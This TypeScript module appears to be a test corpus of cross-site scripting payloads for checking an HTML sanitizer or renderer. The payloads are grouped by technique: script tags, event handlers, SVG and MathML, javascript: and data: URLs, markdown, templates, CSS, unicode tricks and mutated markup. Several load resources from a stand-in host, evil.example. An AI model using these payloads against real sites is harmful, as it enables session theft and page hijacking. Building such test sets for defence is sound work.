/** What a page runs when it takes text for anything but text. Each says so by `__xss(…)`, or makes an `<x-xss>`. */
const byKind = {
  'script tags': [
    '<script>__xss()</script>',
    '<ScRiPt>__xss()</sCrIpT>',
    '</script><script>__xss()</script>',
    '<script src=data:,__xss()></script>',
    '<script/x>__xss()</script>',
    '<<script>__xss();//<</script>',
    '"><script>__xss()</script>',
    "'-__xss()-'",
    '</title><script>__xss()</script>',
    '</textarea><script>__xss()</script>',
    '<noscript><p title="</noscript><script>__xss()</script>">',
  ],
  'event handlers': [
    '<img src=x onerror=__xss()>',
    '<img src=x onerror="__xss()"/>',
    '"onfocus="__xss()" autofocus="',
    "' onmouseover='__xss()",
    '<body onload=__xss()>',
    '<input autofocus onfocus=__xss()>',
    '<details open ontoggle=__xss()>',
    '<video><source onerror=__xss()></video>',
    '<audio src=x onerror=__xss()>',
    '<marquee onstart=__xss()>',
    '<x-xss style="animation:a" onanimationstart=__xss()>',
    '<iframe onload=__xss()></iframe>',
    '<object data=x onerror=__xss()>',
  ],
  svg: [
    '<svg onload=__xss()>',
    '<svg><script>__xss()</script></svg>',
    '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:__xss()"><text>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'/>#x">',
  ],
  mathml: [
    '<math href="javascript:__xss()"><mi>x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
    '<math><annotation-xml encoding="text/html"><script>__xss()</script>',
  ],
  addresses: [
    'javascript:__xss()',
    'JaVaScRiPt:__xss()',
    'java\tscript:__xss()',
    '\u0001javascript:__xss()',
    'javascript://example.com/%0a__xss()',
    'data:text/html,<script>__xss()</script>',
    'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
    'vbscript:__xss()',
    'blob:https://example.com/x',
    '<a href="javascript:__xss()">x</a>',
    '<a href="&#106;avascript:__xss()">x</a>',
    '<form action="javascript:__xss()"><button>x</button></form>',
    '<iframe src="javascript:__xss()">',
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=javascript:__xss()">',
    '<link rel=stylesheet href=//evil.example/x.css>',
  ],
  'links that are made of text': [
    'https://example.com/"onmouseover="__xss()',
    "https://example.com/'onclick='__xss()",
    'https://example.com/<img src=x onerror=__xss()>',
    'https://example.com/javascript:__xss()',
    'http://javascript:__xss()@example.com/',
    'https://example.com/?q=</a><script>__xss()</script>',
    'javascript:https://example.com/',
    'data:https://example.com/,x',
    'https://exаmple.com/\u202egnp.exe',
    'https:javascript:__xss()',
    'mailto:x@example.com?body=<script>__xss()</script>',
  ],
  markdown: [
    '[x](javascript:__xss())',
    '![x](x"onerror="__xss())',
    '<javascript:__xss()>',
    '[x]: javascript:__xss()',
    '`<img src=x onerror=__xss()>`',
  ],
  templates: [
    '{{constructor.constructor("__xss()")()}}',
    '${__xss()}',
    '#{__xss()}',
    '<%= __xss() %>',
    '{{name}} $t(inbox:thread.you) {{-value}}',
    '__CSP_NONCE__',
    '{% debug %}',
  ],
  css: [
    '<style>*{background:url(javascript:__xss())}</style>',
    '<x-xss style="position:fixed;inset:0;background:red">',
    '</style><script>__xss()</script>',
    'red;background:url(//evil.example/x)',
    '<style>@import "//evil.example/x.css";</style>',
  ],
  unicode: [
    '＜script＞__xss()＜/script＞',
    '\u202e<script>__xss()</script>\u202c',
    '<scr\u200bipt>__xss()</scr\u200bipt>',
    '\ufeff<script>__xss()</script>',
    '<\u2028script>__xss()</script>',
    '\u2066<img src=x onerror=__xss()>\u2069',
    '<ſcript>__xss()</ſcript>',
    '<img src=x onerror=\u2029__xss()>',
    '+ADw-script+AD4-__xss()+ADw-/script+AD4-',
  ],
  'mutated markup': [
    '<svg></p><style><a id="</style><img src=x onerror=__xss()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss()>',
    '<table><td><x-xss></td><script>__xss()</script></table>',
    '<!--><img src=x onerror=__xss()>-->',
    '<![CDATA[<script>__xss()</script>]]>',
    '<template><script>__xss()</script></template>',
    '<xmp><p title="</xmp><img src=x onerror=__xss()>">',
    '&lt;script&gt;__xss()&lt;/script&gt;',
    '&#60;img src=x onerror=__xss()&#62;',
    '\\x3cscript\\x3e__xss()\\x3c/script\\x3e',
    '<x-xss>',
  ],
} as const;

/** All of them. */
export const payloads: readonly string[] = Object.values(byKind).flat();

/** The same in as few texts of at most so many characters as hold them. */
export function bundles(most: number): string[] {
  const bundled: string[] = [];
  for (const payload of payloads) {
    const joined = `${bundled.at(-1) ?? ''} ${payload}`;
    if (bundled.length > 0 && joined.length <= most) bundled[bundled.length - 1] = joined;
    else bundled.push(payload.slice(0, most));
  }
  return bundled;
}
